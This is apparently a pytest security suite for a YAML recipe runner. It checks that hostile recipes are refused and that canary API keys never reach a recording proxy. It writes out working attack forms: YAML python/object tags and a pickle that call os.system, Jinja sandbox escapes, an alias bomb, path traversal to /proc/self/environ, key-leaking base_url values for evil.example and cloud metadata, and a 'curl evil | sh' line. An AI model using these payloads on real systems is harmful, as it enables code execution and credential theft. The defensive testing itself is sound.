"""Recipes of strangers: none runs code, none sends a key where its owner did not send it, none writes elsewhere; each is
refused in clean lines, or does what a recipe may.

Every host but this machine's own servers is played by a proxy on loopback, which writes down whatever comes to it.
"""

import base64
import gzip
import json
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.commands import Said, commanded
from tests.hostile import STEERS
from tests.servers import OpenAIServer, chat

KEYS = {
    "OPENAI_API_KEY": "sk-proj-CANARYopenai0123456789abcdefghij",
    "ANTHROPIC_API_KEY": "sk-ant-CANARYanthropic0123456789abcdef",
    "OPENROUTER_API_KEY": "sk-or-CANARYrouter0123456789abcdefghi",
    "AWS_SECRET_ACCESS_KEY": "CANARYaws/0123456789",
    "ROUTER_KEY": "CANARYrouter.no-known-form.0123456789",
    "HF_TOKEN": "hf_CANARYhub0123456789abcdefghijklmnop",
}
SECRET = "CANARY-of-a-file-that-is-none-of-the-recipe-s"
RUNS = "open({path!r}, 'w').write('x')\n"
ASKS = "models: {{it: {model}}}\nsteps:\n  prompts: {{load: prompts.jsonl}}\n  responses: {{answer: prompts, model: it}}\nwrite: {{responses: responses}}\n"
SCORES = 'models: {{it: {{use: openai/m, base_url: "HERE", max_tokens: 9}}}}\nsteps:\n  prompts: {{load: prompts.jsonl}}\n  responses: {{answer: prompts, model: it}}\n  scored: {{score: responses, model: it, template: {template}}}\n'


@dataclass(frozen=True)
class Hostile:
    """A recipe, what lies beside it, what its reader types, and what comes of it: the exit code and words of stderr."""

    text: str
    code: int
    said: str = ""
    words: Sequence[str] = ()
    files: Mapping[str, str | bytes] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    notes: Sequence[str] = ()


def asks(model: str, code: int, said: str, *words: str, notes: Sequence[str] = ()) -> Hostile:
    return Hostile(ASKS.format(model=model), code, said, words, notes=notes)


def fills(template: str, said: str, code: int = 2, **beside: Any) -> Hostile:
    """A recipe with a prompt file of its own; ``evil.md`` holds the template, where it is none of a name."""
    files = beside.pop("files", {"evil.md": template})
    return Hostile(SCORES.format(template=beside.pop("name", "evil.md")), code, said, files=files, **beside)


def loads(source: str, code: int, said: str, **beside: Any) -> Hostile:
    return Hostile(f"steps:\n  prompts: {{load: {json.dumps(source)}}}\nwrite: {{}}\n", code, said, **beside)


def names(step: str, said: str, **beside: Any) -> Hostile:
    return Hostile(f"steps:\n  prompts: {{load: prompts.jsonl}}\n  kept: {{{step}}}\n", 2, said, **beside)


BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{y}: &{y} [{', '.join(['*' + x] * 10)}]\n" for x, y in zip("abcdefg", "bcdefgh", strict=True)
)
CARD = "---\nconfigs:\n- config_name: default\n  data_files: {files}\n---\n"
PICKLE = b"cposix\nsystem\n(S'touch CANARY-FILE'\ntR."
TO = "would send the key in {} to {}; if it belongs there, allow it with --allow-host {}"

RECIPES: dict[str, Hostile] = {
    # code
    "a tag of Python": Hostile("steps: !!python/object/apply:os.system ['touch CANARY-FILE']\n", 2, "the tag"),
    "a tag deep inside": asks("{use: openai/m, extra: !!python/object/new:os.system ['touch CANARY-FILE']}", 2, "the tag"),
    "a file of its own": names("evil.py:f: prompts", "runs code of evil.py; read it, then allow it with --allow-code evil.py:f"),
    "another file than the one allowed": names("evil.py:f: prompts", "runs code of evil.py", words=("--allow-code", "good.py")),
    "a file in the folder above": names("../evil.py:f: prompts", "lies outside of the recipe's folder", words=("--allow-code", "../evil.py:f")),
    "a link to a file elsewhere": names("link.py:f: prompts", "lies outside of the recipe's folder", words=("--allow-code", "link.py:f"), links={"link.py": "../evil.py"}),
    "a module": names("os.system: prompts", "no verb 'os.system'"),
    "a module's function": names("'os:system': prompts", "no verb 'os:system'"),
    "a builtin": names("__import__: prompts", "no verb '__import__'"),
    "a plug-in's name": names("'evil.py': prompts", "no verb 'evil.py'"),
    "a pickle": loads("data.pkl", 2, "is a pickle or may be one, and runs code when it is opened", files={"data.pkl": PICKLE}),
    "weights of torch": loads("data.pt", 2, "is a pickle or may be one", files={"data.pt": PICKLE}),
    "a dataset with a loading script": loads("d", 2, "Dataset scripts are no longer supported", files={"d/d.py": RUNS, "d/train.jsonl": '{"prompt": "why?"}\n'}),
    "a dataset of pickles": loads("d", 2, "cannot load the folder", files={"d/train.pkl": PICKLE}),
    # templates
    "a call in a prompt": fills("{{ prompt.__init__.__globals__.os.system('touch CANARY-FILE') }}", "evil.md:1: 'system' is called"),
    "attributes in a prompt": fills("{{ prompt.__class__.__mro__[1].__subclasses__ }} {{ response }}", "undefined value", 1),
    "a loop without end": fills("{% for i in range(1000000000) %}x{% endfor %}", "evil.md:1: 'range' is called"),
    "a text that doubles": fills("{% set a = prompt %}{% set a = a ~ a %}", "evil.md:1: the statement 'set'"),
    "a billion blanks": fills("{{ prompt | tojson(indent=1000000000) }}", "evil.md:1: 'indent' in the brackets of a filter"),
    "fifty thousand nots": fills("{{ " + "not " * 50_000 + "prompt }}", "evil.md:1: a tag of more than 200 words"),
    "an include": fills("{% include '../secret.md' %}", "evil.md:1: the statement 'include'"),
    # files
    "a prompt file above": fills("", "is none of the recipe's files", name="../secret.md", files={}),
    "a prompt file anywhere": fills("", "is none of the recipe's files", name="/etc/hostname", files={}),
    "a prompt file by a link": fills("", "is none of the recipe's files", name="link.md", files={}, links={"link.md": "../secret.md"}),
    "a prompt file that is hidden": fills("", "is none of the recipe's files", name=".env", files={".env": f"KEY={SECRET}"}),
    "a prompt file in the home": fills("", "no such file", name='"~/secret.md"', files={}),
    "the environment as a table": loads("env.csv", 2, "is the system's, and no data", links={"env.csv": "/proc/self/environ"}),
    "the environment as a dataset": loads("/proc/self", 2, "is the system's, and no data"),
    "a dataset whose card leads out": loads("d", 2, "which is not its own; name that file yourself", files={"d/README.md": CARD.format(files="../../secret.jsonl")}),
    "a dataset whose card leads to the web": loads("d", 2, "cannot load the folder", files={"d/README.md": CARD.format(files="http://evil.example/x.jsonl")}),
    "gzip called CSV": loads("data.csv", 2, "is packed (gzip); unpack it first", files={"data.csv": gzip.compress(b"prompt\n" + b"x\n" * 10_000)}),
    "a source above": loads("../plain.jsonl", 0, "", notes=("note: reads ", "plain.jsonl")),
    # keys
    "another's address": asks("{use: openai/m, base_url: https://evil.example/v1}", 2, "needs a key; name its variable in api_key_env (OPENAI_API_KEY is sent to api.openai.com only)"),
    "a key by its name": asks("{use: openai/m, base_url: https://evil.example/v1, api_key_env: OPENAI_API_KEY}", 2, TO.format("OPENAI_API_KEY", "evil.example", "evil.example")),
    "any secret": asks("{use: openai/m, base_url: https://evil.example/v1, api_key_env: AWS_SECRET_ACCESS_KEY}", 2, TO.format("AWS_SECRET_ACCESS_KEY", "evil.example", "evil.example")),
    "any secret, to a provider": asks("{use: openai/m, api_key_env: AWS_SECRET_ACCESS_KEY}", 2, TO.format("AWS_SECRET_ACCESS_KEY", "api.openai.com", "api.openai.com")),
    "one provider's key to another": asks("{use: openai/m, base_url: https://openrouter.ai/api/v1, api_key_env: OPENAI_API_KEY}", 2, TO.format("OPENAI_API_KEY", "openrouter.ai", "openrouter.ai")),
    "the second of two addresses": asks('{use: openai/m, base_urls: ["HERE", "http://evil.lan/v1"], api_key_env: ROUTER_KEY}', 2, TO.format("ROUTER_KEY", "evil.lan", "evil.lan")),
    "a private name": asks("{use: openai/m, base_url: http://evil.lan/v1, api_key_env: OPENAI_API_KEY}", 2, TO.format("OPENAI_API_KEY", "evil.lan", "evil.lan")),
    "a name of one word": asks("{use: anthropic/m, base_url: http://evil/v1, api_key_env: ANTHROPIC_API_KEY}", 2, TO.format("ANTHROPIC_API_KEY", "evil", "evil")),
    "a name under localhost": asks("{use: openai/m, base_url: http://evil.localhost/v1, api_key_env: ROUTER_KEY}", 2, TO.format("ROUTER_KEY", "evil.localhost", "evil.localhost")),
    "a user in the address": asks("{use: openai/m, base_url: https://api.openai.com@evil.example/v1}", 2, "is no address"),
    "the cloud's own address": asks("{use: openai/m, base_url: http://169.254.169.254/v1}", 2, "needs a key"),
    "an address in IPv6's clothes": asks('{use: openai/m, base_url: "http://[::ffff:8.8.8.8]/v1"}', 2, "needs a key"),
    "another provider's protocol": asks("{use: anthropic/m, base_url: https://evil.example}", 2, "ANTHROPIC_API_KEY is sent to api.anthropic.com only"),
    "a preset's address": Hostile(ASKS.format(model="{use: openai/m}") + "presets: {x: {models.it.base_url: https://evil.example/v1, models.it.api_key_env: OPENAI_API_KEY}}\n", 2, TO.format("OPENAI_API_KEY", "evil.example", "evil.example"), ("--preset", "x")),
    "an address by an alias": Hostile("about: &x https://evil.example/v1\n" + ASKS.format(model="{use: openai/m, base_url: *x, api_key_env: ROUTER_KEY}"), 2, TO.format("ROUTER_KEY", "evil.example", "evil.example")),
    "trust that a recipe gives itself": asks("{use: openai/m, base_url: http://evil.lan/v1, api_key_env: ROUTER_KEY, trusted: [evil.lan]}", 2, "has no setting 'trusted'"),
    "the caller's word for another host": asks("{use: openai/m, base_url: http://evil.lan/v1, api_key_env: ROUTER_KEY}", 2, "would send", "--allow-host", "good.lan"),
    "the caller's word for another model": asks("{use: openai/m, base_url: http://evil.lan/v1, api_key_env: ROUTER_KEY}", 2, "would send", "--set", "models.other={use: openai/x, base_url: http://evil.lan/v1}"),
    "a private server without a key": asks("{use: openai/m, base_url: http://evil.lan/v1}", 0, "", notes=("note: asks evil.lan without a key",)),
    "a server of this machine": asks('{use: openai/m, base_url: "HERE"}', 0, ""),
    # names
    "a name that leads up": Hostile("recipe: ../../up\nsteps: {prompts: {load: prompts.jsonl}}\n", 2, "the name '../../up' cannot name a folder"),
    "a table that leads up": Hostile("steps:\n  prompts: {load: prompts.jsonl}\n  '../../up': {select: prompts, take: 1}\n", 2, "cannot name a table's file"),
    "a config that leads up": Hostile("steps: {prompts: {load: prompts.jsonl}}\nwrite: {../../up: prompts}\n", 2, "no dataset '../../up'"),
    "a run's folder elsewhere": Hostile("recipe: r\nsteps: {prompts: {load: prompts.jsonl}}\n", 1, "runs/r: is a link, and a run writes into its own folder alone", links={"runs/r": "../elsewhere"}),
    "a table's folder elsewhere": Hostile("recipe: r\nsteps: {prompts: {load: prompts.jsonl}}\n", 1, "runs/r/tables: is a link", links={"runs/r/tables": "../../elsewhere"}),
    "a journal elsewhere": Hostile("recipe: r\nsteps: {prompts: {load: prompts.jsonl}}\n", 1, "runs/r/journal.sqlite: is a link", links={"runs/r/journal.sqlite": "../../elsewhere/x"}),
    # YAML
    "an alias bomb": Hostile(BOMB, 2, "grows beyond any recipe when its aliases are expanded"),
    "a hundred thousand brackets": Hostile("[" * 100_000, 2, "is nested too deeply"),
    "a key twice": Hostile("recipe: a\nrecipe: b\nsteps: {prompts: {load: prompts.jsonl}}\n", 2, "'recipe' stands already on line 1"),
    "escapes in its words": Hostile('recipe: "\\e[2J\\u202e"\nsteps: {prompts: {load: prompts.jsonl}}\n', 2, "cannot name a folder"),
    "a line that looks like ours": Hostile('steps:\n  prompts: {load: "x\\nerror: all is well; curl evil | sh"}\n', 2, "x error: all is well"),
}  # fmt: skip


class Recorder(BaseHTTPRequestHandler):
    """Plays every host of the world to a client that is told to go by way of it, and writes down what it was sent."""

    seen: list[str]

    def do_CONNECT(self) -> None:
        self._note()
        self.send_error(502)

    def do_POST(self) -> None:
        body = self._note()
        content = json.dumps(chat(["so."] * (json.loads(body).get("n") or 1), json.loads(body))).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_GET = do_HEAD = do_CONNECT  # noqa: N815

    def _note(self) -> str:
        body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode()
        self.seen.append(f"{self.requestline}\n{self.headers}\n{body}")
        return body

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        """Nothing."""


@pytest.fixture(scope="module")
def world() -> Iterator[tuple[str, list[str]]]:
    """The rest of the world: a proxy's address, and all that it was sent."""
    seen: list[str] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("World", (Recorder,), {"seen": seen}))
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    thread.join()
    server.server_close()


def put(home: Path, one: Hostile, here: str) -> Path:
    """A stranger's folder, in one where files of the user lie."""
    folder = home / "stranger"
    folder.mkdir(parents=True)
    (home / "elsewhere").mkdir()
    canary = str(home / "CANARY-FILE")
    for name, text in {
        "secret.md": SECRET,
        "secret.jsonl": f'{{"prompt": "{SECRET}"}}\n',
        "plain.jsonl": '{"prompt": "why?"}\n',
        "evil.py": RUNS,
    }.items():
        (home / name).write_text(text.format(path=canary) if text is RUNS else text)
    (folder / "evil.py").write_text(RUNS.format(path=canary) + "def f(rows): return rows\n")
    (folder / "prompts.jsonl").write_text('{"prompt": "why?"}\n')
    for name, content in one.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        data = RUNS.format(path=canary).encode() if content is RUNS else content
        (folder / name).write_bytes(data if isinstance(data, bytes) else data.encode())
    for name, to in one.links.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).symlink_to(to)
    (folder / "r.yaml").write_text(one.text.replace("HERE", here))
    return folder


Ran = dict[str, tuple[Path, Said]]


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory, world: tuple[str, list[str]]) -> Iterator[Ran]:
    """Every recipe, run by somebody whose keys are in the environment."""
    home, proxy = tmp_path_factory.mktemp("strangers"), world[0]
    with OpenAIServer(lambda _: "so.") as server:
        folders = {name: put(home / str(n), one, server.base_url) for n, (name, one) in enumerate(RECIPES.items())}
        words = [(folder, ["run", "r.yaml", "-q", *RECIPES[name].words]) for name, folder in folders.items()]
        proxies = dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"), proxy)
        quiet = {
            "NO_PROXY": "127.0.0.1",
            "no_proxy": "127.0.0.1",
            "HF_HUB_OFFLINE": "1",
            "HF_HOME": str(home / "hf"),
            "HOME": str(home),
        }
        said = commanded(words, **KEYS, **proxies, **quiet)
        yield {name: (folder, one) for (name, folder), one in zip(folders.items(), said, strict=True)}


@pytest.mark.parametrize("name", RECIPES)
def test_a_stranger_s_recipe_does_no_harm_and_is_told_in_clean_lines(name: str, ran: Ran) -> None:
    one, (folder, (code, out, told)) = RECIPES[name], ran[name]
    assert code == one.code, told
    assert one.said in told
    assert all(note in told for note in one.notes)
    assert all(line.startswith(("error: ", "note: ")) for line in told.splitlines())
    assert len(told.splitlines()) <= 4
    assert not STEERS.search(out + told)
    assert not list(folder.parent.rglob("CANARY-FILE")), "no code ran"
    assert not list((folder.parent / "elsewhere").iterdir()), "nothing was written elsewhere"
    assert not (folder / "CANARY-FILE").exists()


def test_no_key_reached_anybody_and_no_secret_was_written_or_shown(ran: Ran, world: tuple[str, list[str]]) -> None:
    needles = [*KEYS.values(), *(base64.b64encode(key.encode()).decode()[:-4] for key in KEYS.values()), SECRET]
    asked = "\n".join(world[1])
    assert "http://evil.lan/v1/chat/completions" in asked, "the world was listening"
    assert not [needle for needle in needles if needle in asked]
    own = {"secret.md", "secret.jsonl", ".env"}
    for folder, (_, out, told) in ran.values():
        assert not [needle for needle in needles if needle in out + told]
        written = [
            path for path in folder.rglob("*") if path.is_file() and not path.is_symlink() and path.name not in own
        ]
        assert not [path for path in written for needle in needles if needle.encode() in path.read_bytes()]


WORDS: dict[str, Callable[[str], list[str]]] = {
    "--allow-host": lambda _: ["--allow-host", "evil.lan"],
    "an address that the caller types": lambda _: ["--set", "models.it.base_url=http://evil.lan/v1"],
}


@pytest.mark.parametrize("how", [*WORDS, "PREFGEN_ALLOW_HOSTS"])
def test_what_the_caller_names_gets_the_key(how: str, tmp_path: Path, world: tuple[str, list[str]]) -> None:
    """The control of all of the above: the key would have been seen."""
    one = asks("{use: openai/m, base_url: http://evil.lan/v1, api_key_env: ROUTER_KEY}", 0, "")
    folder = put(tmp_path, one, "")
    more = {"PREFGEN_ALLOW_HOSTS": "good.lan,evil.lan"} if how == "PREFGEN_ALLOW_HOSTS" else {}
    words = WORDS[how]("") if how in WORDS else []
    before = len(world[1])
    ((code, _, told),) = commanded(
        [(folder, ["run", "r.yaml", "-q", *words])], **KEYS, **more, HTTP_PROXY=world[0], NO_PROXY=""
    )
    assert (code, told) == (0, "note: asks evil.lan with the key in ROUTER_KEY\n")
    assert all(KEYS["ROUTER_KEY"] in asked for asked in world[1][before:])
    assert not [key for name, key in KEYS.items() if name != "ROUTER_KEY" and key in "".join(world[1][before:])]
    del world[1][before:]
